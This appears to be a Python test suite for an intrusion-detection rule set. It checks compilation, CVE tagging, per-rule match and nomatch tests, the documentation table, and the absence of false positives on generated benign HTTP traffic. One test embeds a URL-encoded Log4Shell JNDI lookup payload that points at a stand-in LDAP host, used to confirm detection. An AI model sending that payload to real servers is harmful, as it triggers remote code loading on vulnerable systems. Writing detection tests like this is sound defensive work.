"""The curated endpoint rule set (examples/rulesets/endpoint/): every embedded
test passes, the set compiles into one bundle with enough rules, CVEs and a
performance mode of the intended size, every rule carries a match and a
nomatch test, generated benign HTTP traffic raises no event, and the rule
table of docs/ruleset.md lists every rule with its mode and action.

Standard library only.  Environment: VP_BUILD_DIR (meson build root) and
VP_SRC_DIR (source root); both default to paths relative to this file.
"""
import glob
import json
import os
import random
import re
import subprocess
import tempfile
import unittest

HERE = os.path.dirname(os.path.abspath(__file__))
SRC = os.environ.get("VP_SRC_DIR") or os.path.normpath(os.path.join(HERE, "..", ".."))
BUILD = os.environ.get("VP_BUILD_DIR") or os.path.join(SRC, "build")
RULEC = os.path.join(BUILD, "rulec", "rulec")
VPSCAN = os.path.join(BUILD, "examples", "vpscan")
SET_DIR = os.path.join(SRC, "examples", "rulesets", "endpoint")

MIN_RULES = 200
PERF_SHARE = (0.25, 0.40)


def run(*args, **kw):
    return subprocess.run(args, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                          universal_newlines=True, timeout=kw.get("timeout", 300))


def rule_files():
    return sorted(glob.glob(os.path.join(SET_DIR, "*.yaml")))


def tests_per_rule(path):
    """Line scan of a block-style rule file: {rule id: {"match": n, "nomatch": n}}."""
    counts = {}
    current = None
    id_re = re.compile(r"^\s*-\s+id:\s*(\d+)\s*(?:#.*)?$")
    expect_re = re.compile(r"^\s*(?:-\s+)?expect:\s*(match|nomatch)\s*(?:#.*)?$")
    with open(path, encoding="utf-8") as f:
        for line in f:
            m = id_re.match(line)
            if m:
                current = int(m.group(1))
                if current in counts:
                    raise AssertionError("%s: rule id %d appears twice" % (path, current))
                counts[current] = {"match": 0, "nomatch": 0}
                continue
            m = expect_re.match(line)
            if m:
                if current is None:
                    raise AssertionError("%s: expect before the first rule id" % path)
                counts[current][m.group(1)] += 1
    return counts


# ---- benign traffic generator ---------------------------------------------

WORDS = ("account billing blue cart catalog city coffee company contact data "
         "design docs garden green guide help history home image index invoice "
         "java kitchen lake library local market menu music news office order "
         "page people photo price product profile project python report review "
         "river school search service shoes sport store summer support team "
         "travel user video weather winter world").split()
AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "curl/8.5.0",
    "python-requests/2.31.0",
    "okhttp/4.12.0",
)
EXTS = ("html", "css", "js", "png", "jpg", "svg", "woff2", "json", "pdf", "php", "jsp", "aspx")


def benign_requests(seed, n):
    rnd = random.Random(seed)
    w = lambda: rnd.choice(WORDS)
    out = []
    for i in range(n):
        host = "%s.example.com" % w()
        common = "Host: %s\r\nUser-Agent: %s\r\nAccept: */*\r\nAccept-Language: en-US,en;q=0.9\r\n" \
                 "Accept-Encoding: gzip, deflate, br\r\n" % (host, rnd.choice(AGENTS))
        if rnd.random() < 0.5:
            common += "Cookie: session=%016x; theme=%s; lang=en\r\n" % (rnd.getrandbits(64), w())
        if rnd.random() < 0.3:
            common += "Referer: https://%s/%s/%s.html\r\n" % (host, w(), w())
        if rnd.random() < 0.2:
            common += "X-Forwarded-For: 198.51.100.%d, 10.0.%d.%d\r\n" % (
                rnd.randrange(1, 255), rnd.randrange(256), rnd.randrange(1, 255))
        kind = rnd.randrange(6)
        if kind == 0:
            target = "/%s/%s/%s.%s" % (w(), w(), w(), rnd.choice(EXTS))
            out.append("GET %s HTTP/1.1\r\n%s\r\n" % (target, common))
        elif kind == 1:
            q = "+".join(w() for _ in range(rnd.randrange(1, 5)))
            target = "/search?q=%s&page=%d&sort=%s" % (q, rnd.randrange(1, 50), rnd.choice(("asc", "desc")))
            out.append("GET %s HTTP/1.1\r\n%s\r\n" % (target, common))
        elif kind == 2:
            body = "username=%s%d&password=%s%%21%d&remember=on&redirect=%%2F%s" % (
                w(), rnd.randrange(100), w().capitalize(), rnd.randrange(1000), w())
            out.append("POST /login HTTP/1.1\r\n%sContent-Type: application/x-www-form-urlencoded\r\n"
                       "Content-Length: %d\r\n\r\n%s" % (common, len(body), body))
        elif kind == 3:
            body = json.dumps({"id": rnd.randrange(10 ** 6), "name": "%s %s" % (w(), w()),
                               "tags": [w() for _ in range(3)], "price": rnd.randrange(100, 99999) / 100,
                               "note": "%s, %s and %s" % (w(), w(), w())})
            out.append("POST /api/v2/%s/%d HTTP/1.1\r\n%sContent-Type: application/json\r\n"
                       "Content-Length: %d\r\n\r\n%s" % (w(), rnd.randrange(1000), common, len(body), body))
        elif kind == 4:
            target = "/%s/%s/?utm_source=%s&utm_medium=email&id=%d" % (w(), w(), w(), rnd.randrange(10 ** 5))
            out.append("HEAD %s HTTP/1.1\r\n%s\r\n" % (target, common))
        else:
            boundary = "----WebKitFormBoundary%016x" % rnd.getrandbits(64)
            fname = "%s-%s.%s" % (w(), w(), rnd.choice(("pdf", "png", "txt", "docx")))
            body = ("--%s\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n%s %s\r\n"
                    "--%s\r\nContent-Disposition: form-data; name=\"file\"; filename=\"%s\"\r\n"
                    "Content-Type: application/octet-stream\r\n\r\n%s\r\n--%s--\r\n") % (
                boundary, w(), w(), boundary, fname, " ".join(w() for _ in range(40)), boundary)
            out.append("POST /upload/%s HTTP/1.1\r\n%sContent-Type: multipart/form-data; boundary=%s\r\n"
                       "Content-Length: %d\r\n\r\n%s" % (w(), common, boundary, len(body), body))
    return "".join(out).encode()


class EndpointRuleset(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        if not os.path.exists(RULEC):
            raise unittest.SkipTest("rulec not built: %s" % RULEC)
        cls.files = rule_files()
        if not cls.files:
            raise unittest.SkipTest("no rule files in %s" % SET_DIR)
        cls.tmp = tempfile.TemporaryDirectory()
        cls.bundle = os.path.join(cls.tmp.name, "endpoint.vpb")
        r = run(RULEC, "compile", "-o", cls.bundle, *cls.files, timeout=600)
        cls.compile_result = r
        cls.rules = None
        if r.returncode == 0:
            ins = run(RULEC, "inspect", "--json", cls.bundle)
            if ins.returncode == 0:
                cls.rules = json.loads(ins.stdout)["rules"]

    @classmethod
    def tearDownClass(cls):
        cls.tmp.cleanup()

    def need_bundle(self):
        self.assertEqual(self.compile_result.returncode, 0, self.compile_result.stderr)
        self.assertIsNotNone(self.rules, "rulec inspect --json failed")

    def test_check_passes(self):
        r = run(RULEC, "check", *self.files, timeout=600)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertNotIn("warning", r.stderr)

    def test_rule_count_and_cves(self):
        self.need_bundle()
        self.assertGreaterEqual(len(self.rules), MIN_RULES)
        ids = [x["id"] for x in self.rules]
        self.assertEqual(len(ids), len(set(ids)))
        for rule in self.rules:
            self.assertGreaterEqual(len(rule.get("cve") or []), 1, rule["id"])
            self.assertIn("security", rule["modes"], rule["id"])

    def test_performance_share(self):
        self.need_bundle()
        perf = sum("performance" in x["modes"] for x in self.rules)
        share = perf / len(self.rules)
        self.assertGreaterEqual(share, PERF_SHARE[0], "%d of %d" % (perf, len(self.rules)))
        self.assertLessEqual(share, PERF_SHARE[1], "%d of %d" % (perf, len(self.rules)))

    def test_every_rule_has_match_and_nomatch_tests(self):
        self.need_bundle()
        seen = {}
        for path in self.files:
            for rid, c in tests_per_rule(path).items():
                self.assertNotIn(rid, seen, "rule %d in two files" % rid)
                seen[rid] = c
                self.assertGreaterEqual(c["match"], 1, "%s: rule %d has no match test" % (path, rid))
                self.assertGreaterEqual(c["nomatch"], 1, "%s: rule %d has no nomatch test" % (path, rid))
        self.assertEqual(set(seen), {x["id"] for x in self.rules},
                         "the line scan and the bundle disagree on the rule ids")

    def test_docs_table_lists_every_rule(self):
        # docs/ruleset.md, "All rules": one row per rule with its mode and action.
        self.need_bundle()
        path = os.path.join(SRC, "docs", "ruleset.md")
        with open(path, encoding="utf-8") as f:
            text = f.read()
        self.assertIn("\n## All rules\n", text)
        rows = {}
        for line in text.split("\n## All rules\n", 1)[1].splitlines():
            cells = [c.strip() for c in line.strip().strip("|").split("|")]
            if len(cells) == 6 and cells[0].isdigit():
                rows[int(cells[0])] = (cells[4], cells[5])
        for rule in self.rules:
            mode = "performance" if "performance" in rule["modes"] else "security"
            self.assertEqual(rows.get(rule["id"]), (mode, rule["action"]),
                             "docs/ruleset.md: row of rule %d" % rule["id"])
        self.assertEqual(set(rows), {x["id"] for x in self.rules},
                         "docs/ruleset.md lists rules that the set does not have")

    def scan(self, data, mode, port=80):
        if not os.path.exists(VPSCAN):
            self.skipTest("vpscan not built: %s" % VPSCAN)
        path = os.path.join(self.tmp.name, "stream-%s-%d.bin" % (mode, port))
        with open(path, "wb") as f:
            f.write(data)
        r = run(VPSCAN, "-b", self.bundle, "-m", mode, "--stream", path, "--port", str(port))
        self.assertEqual(r.returncode, 0, r.stderr)
        return [json.loads(line) for line in r.stdout.splitlines() if line.startswith("{")]

    def test_exploit_sample_detected_in_both_modes(self):
        # Makes the zero-event check below meaningful: the scanner does report.
        self.need_bundle()
        attack = (b"GET /?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D HTTP/1.1\r\n"
                  b"Host: shop.example\r\n\r\n")
        for mode in ("performance", "security"):
            ids = {e["rule_id"] for e in self.scan(attack, mode)}
            self.assertIn(3000000, ids, mode)

    def test_generated_benign_http_raises_no_event(self):
        self.need_bundle()
        for seed, port in ((1, 80), (2, 8080), (3, 443)):
            data = benign_requests(seed, 1500)
            for mode in ("performance", "security"):
                events = self.scan(data, mode, port)
                self.assertEqual(events, [], "seed %d port %d mode %s: %s" % (
                    seed, port, mode, events[:3]))


if __name__ == "__main__":
    unittest.main(verbosity=2)
